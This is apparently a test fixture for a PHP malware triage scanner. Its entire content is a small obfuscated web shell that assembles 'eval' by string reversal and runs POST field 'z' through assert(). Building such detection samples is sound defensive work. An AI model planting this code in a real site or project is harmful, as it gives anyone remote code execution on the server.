<?php
// triage-expect: triage_php_tiny_dynamic_exec
// Name and argument kept apart, glued inside assert.
$x = 'la' . 've';
$y = '($_POST[z])';
$x = strrev($x);
@assert($x . $y);
